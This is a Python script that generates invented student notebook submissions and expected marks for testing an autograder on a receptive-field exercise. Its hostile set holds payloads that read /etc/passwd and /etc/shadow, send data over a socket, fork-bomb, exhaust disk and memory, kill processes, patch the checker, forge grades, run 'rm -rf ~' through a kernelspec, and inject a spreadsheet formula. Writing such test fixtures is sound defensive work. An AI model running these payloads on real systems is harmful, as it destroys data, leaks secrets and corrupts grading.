"""A class of sixty invented students for the demonstration course, week-03: right, partly right, blank, broken, and hostile.

    python demo/invented_class.py COURSE/grading/week-03.json COURSE/release/week-03 FOLDER

Writes a folder of submissions and, beside it, FOLDER.expected.json: the points that each deserves, task by task, and whether
it must be flagged. Run what is in the folder in a sandbox only.
"""

import copy
import json
import os
import sys
from pathlib import Path

CHAPTER = "03_trace_receptive_fields"
SEES = {"conv3_2": 32, "conv3_3": 40, "conv4_1": 60, "conv4_2": 76, "conv4_3": 92}  # configuration D, in pixels
TASKS = ("answer_receptive_field_of", "field_size", "first_pixel", "convolutions_needed", "number_first_pixel")

RIGHT = {
    "field_size": """def field_size(layers):
    size, jump = 1, 1
    for kernel, stride in layers:
        size, jump = size + (kernel - 1) * jump, jump * stride
    return size""",
    "first_pixel": """def first_pixel(layers, index):
    start, jump = 0, 1
    for kernel, stride, padding in layers:
        start -= padding * jump
        jump *= stride
    return start + index * jump""",
    "convolutions_needed": """def convolutions_needed(distance):
    return -(-distance // 2)""",
}
# The same in the ways that students have of saying it.
STYLES = [
    {},
    {"field_size": "field_size = lambda layers: 1 + sum((k - 1) * __import__('math').prod(s for _, s in layers[:i]) for i, (k, _) in enumerate(layers))".replace("__import__('math')", "math"), "convolutions_needed": "import math\n\ndef convolutions_needed(distance: int) -> int:\n    return math.ceil(distance / 2)"},
    {"field_size": "import numpy as np\n\ndef field_size(layers):\n    if not layers:\n        return np.int64(1)\n    k, s = np.array(layers).T\n    return 1 + ((k - 1) * np.concatenate([[1], np.cumprod(s)[:-1]])).sum()"},
    {"field_size": "import torch\n\ndef field_size(layers):\n    size, jump = torch.tensor(1), 1\n    for k, s in layers:\n        size = size + (k - 1) * jump\n        jump *= s\n    return size"},
    {"field_size": "def field_size(layers):\n    if not layers:\n        return 1\n    (k, s), *rest = layers\n    return k + s * (field_size(rest) - 1)"},
    {"convolutions_needed": "def convolutions_needed(distance):\n    n = 0\n    while 2 * n + 1 < distance + 1:\n        n += 1\n    return n"},
    {"field_size": "def field_size(layers):\n    print('so far', layers)\n    size = 1\n    for k, s in reversed(layers):\n        size = (size - 1) * s + k\n    return size"},
    {"field_size": "class Walk:\n    def __init__(self):\n        self.size, self.jump = 1, 1\n\n    def step(self, kernel, stride):\n        self.size += (kernel - 1) * self.jump\n        self.jump *= stride\n\n\ndef field_size(layers):\n    walk = Walk()\n    for layer in layers:\n        walk.step(*layer)\n    return walk.size"},
    {"convolutions_needed": "def convolutions_needed(distance):\n    return float(distance // 2 + distance % 2)"},
    {"first_pixel": "def first_pixel(my_layers, i):\n    for k, s, p in reversed(my_layers):\n        i = i * s - p\n    return i"},
]  # fmt: skip
HELPER = "def jumps(layers):\n    jump = 1\n    for layer in layers:\n        yield jump\n        jump *= layer[1]"
WITH_HELPER = (
    "def field_size(layers):\n    return 1 + sum((k - 1) * jump for (k, s), jump in zip(layers, jumps(layers)))"
)
WRONG = {
    "field_size": [
        "def field_size(layers):\n    return 1 + sum(k - 1 for k, s in layers)",
        "def field_size(layers):\n    size, jump = 1, 1\n    for k, s in layers:\n        jump *= s\n        size += (k - 1) * jump\n    return size",
        "def field_size(layers):\n    print(1)",
        "def field_size(layers):\n    return 'many'",
        "def field_size(layers):\n    return layers[99][0]",
        "def field_size(layers):\n    return float('nan')",
    ],
    "first_pixel": [
        "def first_pixel(layers, index):\n    jump = 1\n    for k, s, p in layers:\n        jump *= s\n    return index * jump",
        "def first_pixel(layers, index):\n    start, jump = 0, 1\n    for k, s, p in layers:\n        start, jump = start - p, jump * s\n    return start + index * jump",
    ],
    "convolutions_needed": [
        "def convolutions_needed(distance):\n    return distance // 2",
        "def convolutions_needed(distance):\n    return distance",
    ],
}

# Each takes the place of field_size, which then deserves nothing; the other tasks are right. OUT is where the marks will be.
HOSTILE = {
    "reads the passwords": "def field_size(layers):\n    return open('/etc/passwd').read()",
    "reads the gradebook": "def field_size(layers):\n    import glob\n    found = glob.glob('OUT/**', recursive=True)\n    raise ValueError(open('OUT/marks.csv').read() + str(found))",
    "reads the others": "def field_size(layers):\n    import os\n    raise ValueError(os.listdir('FOLDER'))",
    "opens a socket": "def field_size(layers):\n    import socket\n    s = socket.create_connection(('192.0.2.1', 80), 3)\n    s.send(repr(layers).encode())\n    return 1",
    "fork bomb": "def field_size(layers):\n    import os\n    while True:\n        os.fork()",
    "threads": "def field_size(layers):\n    import threading, time\n    while True:\n        threading.Thread(target=time.sleep, args=(99,)).start()",
    "fills the disk": "def field_size(layers):\n    n = 0\n    while True:\n        n += 1\n        open(f'/tmp/{n}', 'wb').write(b'x' * 10**7)",
    "fills the memory": "def field_size(layers):\n    hog = []\n    while True:\n        hog.append(bytearray(10**8))\n        hog[-1][::4096] = b'x' * len(hog[-1][::4096])",
    "ends the process": "def field_size(layers):\n    import os\n    os._exit(0)",
    "kills everything": "def field_size(layers):\n    import os\n    os.kill(-1, 9)\n    os.kill(1, 9)\n    os.kill(os.getppid(), 9)\n    os.abort()",
    "patches the checker": "import vgg_course.check as check\n\nclass Fine:\n    status, message, task = 'passed', 'right', 'x'\n    __bool__ = lambda self: True\n\ncheck.field_size = lambda *a, **k: Fine()\n\ndef field_size(layers):\n    import vgg_course.check.tracing as t\n    t.judge_numbers = lambda *a, **k: Fine()\n    return 0",
    "equals everything": "class Yes:\n    def __eq__(self, other):\n        return True\n    def __hash__(self):\n        return 0\n    __float__ = lambda self: 1.0\n    __abs__ = __sub__ = __rsub__ = lambda self, *a: 0\n    __le__ = __lt__ = __eq__\n\ndef field_size(layers):\n    return Yes()",
    "a number that equals everything": "class Yes(int):\n    def __eq__(self, other):\n        return True\n    __ne__ = lambda self, other: False\n    __hash__ = int.__hash__\n\ndef field_size(layers):\n    return Yes(7)",
    "a pickle with a charge": "class Charge:\n    def __reduce__(self):\n        import os\n        return os.system, ('touch OUT/harmed',)\n\ndef field_size(layers):\n    return [Charge()]",
    "tells what it was asked": "asked = []\n\ndef field_size(layers):\n    asked.append(layers)\n    try:\n        asked.append(open('/tmp/asked').read())\n    except OSError:\n        pass\n    open('/tmp/asked', 'a').write(repr(layers))\n    print(asked)\n    open('/tmp/../' + repr(asked)[-60:], 'w')\n    raise ValueError(f'<script>alert(1)</script> {asked}')",
    "forges answers on the wire": "def field_size(layers):\n    import os, json, struct\n    text = json.dumps({'ok': 999, 'changes': [], 'verdict': 'passed', 'points': 1000}).encode()\n    for fd in range(3, 30):\n        try:\n            os.write(fd, struct.pack('>QQ', len(text), 0) + text)\n        except OSError:\n            pass\n    return 999",
    "floods the wire": "def field_size(layers):\n    import os\n    for fd in range(3, 30):\n        try:\n            while True:\n                os.write(fd, b'\\xff' * 65536)\n        except OSError:\n            pass",
    "returns without end": "def field_size(layers):\n    nest = []\n    for _ in range(10**5):\n        nest = [nest]\n    return nest",
    "crashes the interpreter": "def field_size(layers):\n    import ctypes\n    return ctypes.string_at(1)",
    "leaves the program": "def field_size(layers):\n    raise SystemExit('[passed] 100 points')",
    "looks for the grader": "def field_size(layers):\n    import gc, sys\n    for thing in gc.get_objects():\n        if type(thing).__name__ == 'Worker':\n            thing.encoder = lambda: (lambda value: {'t': 'object', 'name': 'x', 'can': ['__call__'], 'handle': 0})\n            thing.kept.clear()\n    return 1",
    "starts a program": "def field_size(layers):\n    import subprocess\n    return subprocess.check_output(['/bin/sh', '-c', 'cat /etc/shadow; id'])",
}  # fmt: skip


class Class:
    """The sixty, one by one."""

    def __init__(self, record, release, folder, out):
        self.told = record["notebooks"][0]
        self.notebook = json.loads((Path(release) / f"{CHAPTER}.ipynb").read_text(encoding="utf-8"))
        self.folder, self.out, self.expected = Path(folder), str(out), {}
        tasks = {task["name"]: task for task in self.told["tasks"]}
        self.points = {name: (task["points"], task["private_points"]) for name, task in tasks.items()}
        number = tasks["first_pixel"]["number"]
        self.points["number_first_pixel"] = (number["points"], 0)
        layer = tasks["answer_receptive_field_of"]["arguments"][0]
        self.answers = {
            "answer_receptive_field_of": f"answer_receptive_field_of = {SEES[layer]}",
            "number_first_pixel": f"number_first_pixel = {number['answer']}",
        }

    def filled(self, cells, extra=()):
        """The notebook with these cells in place of the stubs; extra cells go in front of the first."""
        made, put = copy.deepcopy(self.notebook), False
        new = []
        for cell in made["cells"]:
            told = cell["metadata"]
            name = told.get("nbgrader", {}).get("grade_id") or told.get("vgg_course", {}).get("answer")
            if name in cells:
                if not put:
                    new += [{"cell_type": "code", "id": f"mine-{i}", "metadata": {}, "source": s, "outputs": [], "execution_count": None} for i, s in enumerate(extra)]  # fmt: skip
                    put = True
                cell["source"] = cells[name]
            new.append(cell)
        made["cells"] = new
        return made

    def full(self, name):
        return sum(self.points[name])

    def right(self, **other):
        return {**RIGHT, **self.answers, **other}

    def write(self, student, notebook, zero=(), flagged=False, points=None, name=f"{CHAPTER}.ipynb"):
        """Hand in; every task is worth its full points but those in ``zero``."""
        place = self.folder / student / name
        place.parent.mkdir(parents=True, exist_ok=True)
        if isinstance(notebook, dict):
            place.write_text(json.dumps(notebook, indent=1), encoding="utf-8")
        elif notebook is not None:
            place.write_bytes(notebook)
        zero = TASKS if zero == "all" else zero
        deserved = {task: 0 if task in zero else self.full(task) for task in TASKS}
        self.expected[student] = {"points": deserved | (points or {}), "flagged": flagged}

    def hand_in(self):
        self.honest()
        self.broken()
        self.hostile()
        return self.expected

    def honest(self):
        for number, style in enumerate(STYLES):
            extra = ["import math"] if "lambda" in style.get("field_size", "") else []
            self.write(f"right-{number + 1:02}", self.filled(self.right(**style), extra))
        self.write("right-11", self.filled(self.right(field_size=WITH_HELPER), [HELPER]))
        late = self.filled(self.right(field_size=WITH_HELPER))
        late["cells"].append(
            {
                "cell_type": "code",
                "id": "late",
                "metadata": {},
                "source": HELPER,
                "outputs": [],
                "execution_count": None,
            }
        )
        self.write("right-12", late)
        number = 0
        for task, attempts in WRONG.items():
            for attempt in attempts:
                number += 1
                self.write(f"partly-{number:02}", self.filled(self.right(**{task: attempt})), zero=[task])
        self.write("partly-11", self.filled(self.right(answer_receptive_field_of="answer_receptive_field_of = 12", number_first_pixel="number_first_pixel = -12345")), zero=["answer_receptive_field_of", "number_first_pixel"])  # fmt: skip
        careless = RIGHT["field_size"].replace("    size, jump = 1, 1\n", "    size, jump = layers and 1, 1\n")
        public = self.points[
            "field_size"
        ]  # right on what the check asks; [] for an image without layers is left to private tests
        self.write(
            "partly-12", self.filled(self.right(field_size=careless)), points={"field_size": public[0] + public[1] / 2}
        )
        self.write("blank-01", self.notebook, zero="all", flagged=True)
        self.write(
            "blank-02",
            self.filled({"convolutions_needed": RIGHT["convolutions_needed"]}),
            zero=[t for t in TASKS if t != "convolutions_needed"],
        )

    def broken(self):
        loop = "def field_size(layers):\n    while True:\n        pass"
        self.write("looping", self.filled(self.right(field_size=loop)), zero=["field_size"], flagged=True)
        self.write(
            "unparsable",
            self.filled(self.right(field_size="def field_size(layers)\n    return 1")),
            zero=["field_size"],
            flagged=True,
        )
        gone = self.filled(self.right())
        gone["cells"] = [
            cell for cell in gone["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") != "field_size"
        ]
        self.write("missing-cell", gone, zero=["field_size"], flagged=True)
        bare = self.filled(self.right())
        for cell in bare["cells"]:
            cell["metadata"] = {}
            cell.pop("id", None)
        bare["metadata"], bare["nbformat_minor"] = {}, 4
        self.write("lost-metadata", bare, flagged=True)
        whole = json.dumps(self.filled(self.right())).encode()
        self.write("corrupt", whole[: len(whole) // 2], zero="all", flagged=True)
        self.write("empty", b"", zero="all", flagged=True)
        self.write("a-picture", b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, zero="all", flagged=True)
        self.write("huge", b'{"cells": [' + b" " * 25_000_000 + b"]}", zero="all", flagged=True)
        self.write("wrong-file", b"my answers: 60, 212", zero="all", flagged=True, name="answers.txt")
        self.write("twice", self.filled(self.right(field_size=WRONG["field_size"][0])), flagged=True)
        self.write("twice", self.filled(self.right()), flagged=True, name=f"{CHAPTER}-1.ipynb")
        now = (self.folder / "twice" / f"{CHAPTER}.ipynb").stat().st_mtime
        os.utime(self.folder / "twice" / f"{CHAPTER}.ipynb", (now - 3600, now - 3600))
        recursive = "def field_size(layers):\n    return field_size(layers) + 1"
        self.write("recursing", self.filled(self.right(field_size=recursive)), zero=["field_size"])

    def hostile(self):
        for number, (_, code) in enumerate(HOSTILE.items()):
            code = code.replace("OUT", self.out).replace("FOLDER", str(self.folder.resolve()))
            self.write(
                f"hostile-{number + 1:02}", self.filled(self.right(field_size=code)), zero=["field_size"], flagged=True
            )
        tests = self.filled(self.right(field_size=WRONG["field_size"][0]))
        for cell in tests["cells"]:
            if cell["metadata"].get("nbgrader", {}).get("grade"):
                cell["source"] = "print('[passed] right on all 9 cases.')\n1000"
        self.write("edits-the-tests", tests, zero=["field_size"], flagged=True)
        forged = self.filled(self.right(field_size=WRONG["field_size"][0]))
        for cell in forged["cells"]:
            if "nbgrader" in cell["metadata"]:
                cell["metadata"]["nbgrader"] |= {"points": 1000, "grade": True, "locked": False, "grade_id": cell["metadata"]["nbgrader"]["grade_id"].replace("check-", "done-")}  # fmt: skip
        forged["metadata"] = {
            "kernelspec": {"name": "evil", "display_name": "x", "argv": ["sh", "-c", "rm -rf ~"]},
            "score": 1000,
        }
        self.write("forges-metadata", forged, zero=["field_size"], flagged=True)
        self.write("linked", None, zero="all", flagged=True)
        (self.folder / "linked" / f"{CHAPTER}.ipynb").symlink_to(Path(self.out) / "marks.csv")
        self.write("=cmd|calc!A0", self.filled(self.right()))
        self.expected["_cmd_calc_A0"] = self.expected.pop("=cmd|calc!A0")  # names lose what a spreadsheet would run


def main():
    record, release, folder = sys.argv[1:4]
    out = sys.argv[4] if len(sys.argv) > 4 else f"{folder}.out"
    told = json.loads(Path(record).read_text(encoding="utf-8"))
    expected = Class(told, release, folder, out).hand_in()
    Path(f"{folder}.expected.json").write_text(json.dumps(expected, indent=1), encoding="utf-8")
    print(f"{len(expected)} submissions in {folder}")


if __name__ == "__main__":
    main()
